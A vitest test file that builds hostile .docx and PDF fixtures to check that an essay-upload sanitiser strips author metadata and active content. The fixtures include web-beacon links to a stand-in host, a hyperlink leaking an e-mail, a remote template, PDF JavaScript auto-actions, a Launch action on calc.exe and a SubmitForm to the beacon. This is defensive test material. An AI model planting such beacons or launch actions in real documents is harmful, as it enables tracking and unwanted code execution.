// The judge's copy, field by field and action by action: a .docx and a PDF carrying the author's name, phone and
// e-mail in every property and every way to fetch or run something; after stripAuthorMetadata none of it is left,
// and the essay's text is.
import mammoth from 'mammoth';
import { PDFDict, PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { entriesOf } from '../files/hostile-fixtures';
import { OFFICE_LIMITS, openOffice } from '../files/office';
import { writeZip } from '../files/zip';
import { NEUTRAL_AUTHOR, NEUTRAL_TITLE, inspectUpload, pdfText, stripAuthorMetadata } from './files';

const WHO = 'Nguyễn Văn A';
const PHONE = '0912345678';
const EMAIL = 'nva@example.vn';
const BEACON = 'beacon.example';
/** A marker per field, so a failure names the field that leaked. */
const mark = (field: string) => `${field}: ${WHO} ${PHONE} ${EMAIL}`;
const TEXT = 'Tôi yêu Việt Nam quê hương tôi';

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PKG = 'http://schemas.openxmlformats.org/package/2006/relationships';
const CORE_FIELDS = [
	'dc:title',
	'dc:subject',
	'dc:creator',
	'cp:keywords',
	'dc:description',
	'cp:lastModifiedBy',
	'cp:category',
	'cp:contentStatus',
	'dc:identifier'
];
const APP_FIELDS = ['Company', 'Manager', 'HyperlinkBase', 'Template'];

const docxParts: Record<string, string> = {
	'[Content_Types].xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/><Override PartName="/word/commentsExtended.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.commentsExtended+xml"/><Override PartName="/word/commentsIds.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.commentsIds+xml"/><Override PartName="/word/people.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.people+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/><Override PartName="/customXml/itemProps1.xml" ContentType="application/vnd.openxmlformats-officedocument.customXmlProperties+xml"/><Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/><Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/><Override PartName="/docProps/custom.xml" ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/></Types>`,
	'_rels/.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="${PKG}"><Relationship Id="rId1" Type="${R}/officeDocument" Target="word/document.xml"/><Relationship Id="rId2" Type="${PKG}/metadata/core-properties" Target="docProps/core.xml"/><Relationship Id="rId3" Type="${R}/extended-properties" Target="docProps/app.xml"/><Relationship Id="rId4" Type="${R}/custom-properties" Target="docProps/custom.xml"/></Relationships>`,
	'docProps/core.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">${CORE_FIELDS.map((f) => `<${f}>${mark(f)}</${f}>`).join('')}<dcterms:created xsi:type="dcterms:W3CDTF">2026-11-01T10:00:00Z</dcterms:created></cp:coreProperties>`,
	'docProps/app.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><Application>Microsoft Office Word</Application>${APP_FIELDS.map((f) => `<${f}>${mark(f)}</${f}>`).join('')}</Properties>`,
	'docProps/custom.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Người soạn"><vt:lpwstr>${mark('custom property')}</vt:lpwstr></property></Properties>`,
	'customXml/item1.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><author>${mark('customXml item')}</author>`,
	'customXml/itemProps1.xml': `<?xml version="1.0" encoding="UTF-8" standalone="no"?><ds:datastoreItem ds:itemID="{1}" xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>`,
	'customXml/_rels/item1.xml.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="${PKG}"><Relationship Id="rId1" Type="${R}/customXmlProps" Target="itemProps1.xml"/></Relationships>`,
	'word/_rels/document.xml.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="${PKG}"><Relationship Id="rId1" Type="${R}/comments" Target="comments.xml"/><Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2011/relationships/people" Target="people.xml"/><Relationship Id="rId3" Type="${R}/customXml" Target="../customXml/item1.xml"/><Relationship Id="rId4" Type="${R}/hyperlink" Target="https://${BEACON}/link?who=${EMAIL}" TargetMode="External"/><Relationship Id="rId5" Type="${R}/image" Target="https://${BEACON}/pixel.png" TargetMode="External"/><Relationship Id="rId6" Type="${R}/settings" Target="settings.xml"/><Relationship Id="rId7" Type="http://schemas.microsoft.com/office/2011/relationships/commentsExtended" Target="commentsExtended.xml"/><Relationship Id="rId8" Type="http://schemas.microsoft.com/office/2016/09/relationships/commentsIds" Target="commentsIds.xml"/></Relationships>`,
	'word/document.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="${W}" xmlns:r="${R}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:body>
<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>${TEXT}</w:t></w:r><w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>
<w:p><w:ins w:id="1" w:author="${mark('w:ins author')}" w:date="2026-11-01T10:00:00Z"><w:r><w:t xml:space="preserve"> mới</w:t></w:r></w:ins><w:del w:id="2" w:author="${mark('w:del author')}" w:date="2026-11-01T10:00:00Z"><w:r><w:delText>cũ</w:delText></w:r></w:del></w:p>
<w:p><w:hyperlink r:id="rId4"><w:r><w:t>trang của tôi</w:t></w:r></w:hyperlink></w:p>
<w:p><w:r><w:drawing><a:graphic><a:graphicData uri="pic"><a:blip r:link="rId5"/></a:graphicData></a:graphic></w:drawing></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "https://${BEACON}/field.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
</w:body></w:document>`,
	'word/comments.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:comments xmlns:w="${W}"><w:comment w:id="0" w:author="${WHO}" w:initials="NVA"><w:p><w:r><w:t>${mark('comment text')}</w:t></w:r></w:p></w:comment></w:comments>`,
	'word/commentsExtended.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w15:commentsEx xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"><w15:commentEx w15:paraId="1" w15:done="0"/></w15:commentsEx>`,
	'word/commentsIds.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w16cid:commentsIds xmlns:w16cid="http://schemas.microsoft.com/office/word/2016/wordml/cid"><w16cid:commentId w16cid:paraId="1" w16cid:durableId="2"/></w16cid:commentsIds>`,
	'word/people.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"><w15:person w15:author="${WHO}"><w15:presenceInfo w15:providerId="AD" w15:userId="${mark('people userId')}"/></w15:person></w15:people>`,
	'word/settings.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:attachedTemplate r:id="rId1"/><w:docVars><w:docVar w:name="author" w:val="${mark('docVar')}"/></w:docVars></w:settings>`,
	'word/_rels/settings.xml.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="${PKG}"><Relationship Id="rId1" Type="${R}/attachedTemplate" Target="https://${BEACON}/Normal.dotm" TargetMode="External"/></Relationships>`
};

const hostileDocx = () =>
	writeZip(Object.entries(docxParts).map(([name, xml]) => ({ name, data: Buffer.from(xml) })));

/** Every part of a zip, inflated, as text. */
const partsOf = (bytes: Uint8Array) =>
	new Map(entriesOf(bytes).map((e) => [e.name, Buffer.from(e.data).toString('utf8')]));

const FIELDS = [
	...CORE_FIELDS,
	...APP_FIELDS,
	'custom property',
	'customXml item',
	'comment text',
	'w:ins author',
	'w:del author',
	'people userId',
	'docVar'
];

describe("the judge's copy of a .docx", async () => {
	const before = hostileDocx();
	const beforeParts = partsOf(before);
	const after = await stripAuthorMetadata(before, 'docx');
	const parts = partsOf(after);
	const all = [...parts.values()].join('\n');

	it('the hostile file is a valid upload that holds every marker', async () => {
		expect(await inspectUpload(before, { maxBytes: 20e6 })).toMatchObject({ ok: true, kind: 'docx' });
		const allBefore = [...beforeParts.values()].join('\n');
		for (const field of FIELDS) expect(allBefore).toContain(mark(field));
	});

	it.each(FIELDS)('%s: emptied', (field) => {
		expect(all).not.toContain(mark(field));
	});

	it('no name, phone or e-mail anywhere, in any part', () => {
		for (const needle of [WHO, PHONE, EMAIL]) expect(all).not.toContain(needle);
	});

	it('title and authors are the neutral ones', () => {
		const core = parts.get('docProps/core.xml');
		expect(core).toContain(`<dc:title>${NEUTRAL_TITLE}</dc:title>`);
		expect(core).toContain(`<dc:creator>${NEUTRAL_AUTHOR}</dc:creator>`);
		expect(parts.get('word/document.xml')).toContain(`w:author="${NEUTRAL_AUTHOR}"`);
	});

	it('custom properties, customXml and comment parts are removed with their relationships and content types', () => {
		for (const gone of [
			'docProps/custom.xml',
			'customXml/item1.xml',
			'customXml/itemProps1.xml',
			'customXml/_rels/item1.xml.rels',
			'word/comments.xml',
			'word/commentsExtended.xml',
			'word/commentsIds.xml',
			'word/people.xml'
		]) {
			expect(parts.has(gone), gone).toBe(false);
			expect(all, `a reference to ${gone}`).not.toMatch(new RegExp(`["/]${gone.replace(/^.*\//, '')}"`));
		}
	});

	it('comment anchors are removed from the text', () => {
		expect(parts.get('word/document.xml')).not.toMatch(/commentRangeStart|commentRangeEnd|commentReference/);
	});

	it.each([
		['hyperlink', 'link?who'],
		['linked picture (web beacon)', 'pixel.png'],
		['attached template', 'Normal.dotm'],
		['INCLUDEPICTURE field', 'field.png']
	])('%s: nothing left to fetch', (_what, target) => {
		expect(all).not.toContain(target);
		expect(all).not.toContain(BEACON);
		expect(all).not.toMatch(/TargetMode\s*=\s*"External"/);
		expect(all).not.toContain('attachedTemplate');
	});

	it('every relationship id the parts use still exists (Word opens it without repair)', () => {
		const rels = parts.get('word/_rels/document.xml.rels') ?? '';
		for (const [, id] of (parts.get('word/document.xml') ?? '').matchAll(/r:\w+="([^"]*)"/g))
			expect(rels).toContain(`Id="${id}"`);
		expect(parts.get('word/settings.xml')).not.toMatch(/r:id=/);
	});

	it('the text is still there, and the copy passes every check an upload does', async () => {
		const text = (await mammoth.extractRawText({ buffer: Buffer.from(after) })).value;
		expect(text).toContain(TEXT);
		expect(text).toContain('trang của tôi');
		expect(openOffice(after, OFFICE_LIMITS.essayDocx)).toMatchObject({ ok: true });
		expect(await inspectUpload(after, { maxBytes: 20e6 })).toMatchObject({ ok: true, kind: 'docx' });
	});
});

const INFO_FIELDS = ['Title', 'Author', 'Subject', 'Keywords', 'Creator', 'Producer', 'Phone'];
const PDF_ACTIONS = [
	'/JavaScript',
	'/JS',
	'/OpenAction',
	'/AA',
	'/Launch',
	'/URI',
	'/SubmitForm',
	'/EmbeddedFiles',
	'/AcroForm',
	'/Annots',
	'/Metadata',
	'/Outlines'
];

async function hostilePdf(): Promise<Uint8Array> {
	const doc = await PDFDocument.create({ updateMetadata: false });
	const page = doc.addPage([300, 300]);
	page.drawText('Bai du thi cua toi', { x: 20, y: 200, font: await doc.embedFont(StandardFonts.Helvetica) });
	const { context, catalog } = doc;
	const str = (field: string) => PDFString.of(mark(field).normalize('NFD').replace(/\p{M}/gu, ''));
	const info = context.obj({});
	for (const f of INFO_FIELDS) info.set(PDFName.of(f), str(`Info ${f}`));
	context.trailerInfo.Info = context.register(info);
	const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:creator>${mark('XMP')}</dc:creator></x:xmpmeta>`;
	catalog.set(
		PDFName.of('Metadata'),
		context.register(context.flateStream(xmp, { Type: 'Metadata', Subtype: 'XML' }))
	);
	const js = (code: string) => context.obj({ S: 'JavaScript', JS: PDFString.of(code) });
	const uri = () => context.obj({ S: 'URI', URI: PDFString.of(`https://${BEACON}/open`) });
	catalog.set(PDFName.of('OpenAction'), js('app.alert(1)'));
	catalog.set(PDFName.of('AA'), context.obj({ WC: js('app.alert(2)') }));
	const embedded = context.register(context.stream(mark('embedded file'), { Type: 'EmbeddedFile' }));
	const fileSpec = context.obj({
		Type: 'Filespec',
		F: PDFString.of('cv.txt'),
		EF: context.obj({ F: embedded })
	});
	catalog.set(
		PDFName.of('Names'),
		context.obj({
			JavaScript: context.obj({ Names: [PDFString.of('init'), js('app.launchURL("x")')] }),
			EmbeddedFiles: context.obj({ Names: [PDFString.of('cv.txt'), fileSpec] })
		})
	);
	const field = context.register(
		context.obj({
			FT: 'Tx',
			T: PDFString.of('name'),
			V: str('form value'),
			Type: 'Annot',
			Subtype: 'Widget',
			Rect: [0, 0, 10, 10]
		})
	);
	catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [field] }));
	catalog.set(PDFName.of('URI'), context.obj({ Base: PDFString.of(`https://${BEACON}/`) }));
	const outline = context.register(context.obj({ Title: PDFString.of('Muc 1'), A: uri() }));
	catalog.set(
		PDFName.of('Outlines'),
		context.obj({ Type: 'Outlines', First: outline, Last: outline, Count: 1 })
	);
	page.node.set(PDFName.of('AA'), context.obj({ O: js('app.alert(3)') }));
	const annots = [
		context.obj({
			Type: 'Annot',
			Subtype: 'Text',
			Rect: [10, 10, 30, 30],
			T: str('annot T'),
			Contents: str('annot Contents')
		}),
		context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [10, 40, 30, 60], A: uri() }),
		context.obj({
			Type: 'Annot',
			Subtype: 'Link',
			Rect: [10, 70, 30, 90],
			A: context.obj({ S: 'Launch', F: PDFString.of('calc.exe') })
		}),
		context.obj({
			Type: 'Annot',
			Subtype: 'Widget',
			Rect: [10, 100, 30, 120],
			A: context.obj({ S: 'SubmitForm', F: PDFString.of(`https://${BEACON}/submit`) })
		}),
		field
	];
	page.node.set(
		PDFName.of('Annots'),
		context.obj(annots.map((a) => (a instanceof PDFDict ? context.register(a) : a)))
	);
	return doc.save({ useObjectStreams: false });
}

describe("the judge's copy of a PDF", async () => {
	const before = await hostilePdf();
	const after = await stripAuthorMetadata(before, 'pdf');
	const reloaded = await PDFDocument.load(after, { updateMetadata: false });
	// every object uncompressed, so a search sees dictionaries and strings as written
	const plain = Buffer.from(await reloaded.save({ useObjectStreams: false })).toString('latin1');
	const plainBefore = Buffer.from(before).toString('latin1');
	const asciiMark = (field: string) => mark(field).normalize('NFD').replace(/\p{M}/gu, '');

	it('the hostile file is a valid upload with every field and action', async () => {
		expect(await inspectUpload(before, { maxBytes: 20e6 })).toMatchObject({ ok: true, kind: 'pdf' });
		for (const key of PDF_ACTIONS) expect(plainBefore).toContain(key);
		for (const f of INFO_FIELDS) expect(plainBefore).toContain(asciiMark(`Info ${f}`));
	});

	it.each(INFO_FIELDS)('Info /%s: gone (only a neutral title is left)', (field) => {
		expect(plain).not.toContain(asciiMark(`Info ${field}`));
	});

	it('the Info dictionary holds the neutral title and nothing else', () => {
		expect(reloaded.getTitle()).toBe(NEUTRAL_TITLE);
		const info = reloaded.context.lookup(reloaded.context.trailerInfo.Info);
		expect(info instanceof PDFDict && info.keys().map((k) => k.decodeText())).toEqual(['Title']);
	});

	it.each(['XMP', 'annot T', 'annot Contents', 'embedded file', 'form value'])('%s: gone', (field) => {
		expect(plain).not.toContain(asciiMark(field));
	});

	it.each(PDF_ACTIONS)('%s: gone', (key) => {
		expect(plain).not.toMatch(new RegExp(`${key}[\\s/<[(]`));
	});

	it('no name, phone, e-mail or address to fetch anywhere', () => {
		for (const needle of ['Nguyen', PHONE, EMAIL, BEACON, 'calc.exe']) expect(plain).not.toContain(needle);
	});

	it('the page and its text are still there', async () => {
		expect(reloaded.getPageCount()).toBe(1);
		const content = reloaded.getPage(0).node.Contents();
		expect(content).toBeDefined();
		expect(await pdfText(after)).toBe(await pdfText(before));
		expect(await pdfText(after)).toContain('Bai du thi cua toi');
		expect(await inspectUpload(after, { maxBytes: 20e6 })).toMatchObject({ ok: true, kind: 'pdf' });
	});
});
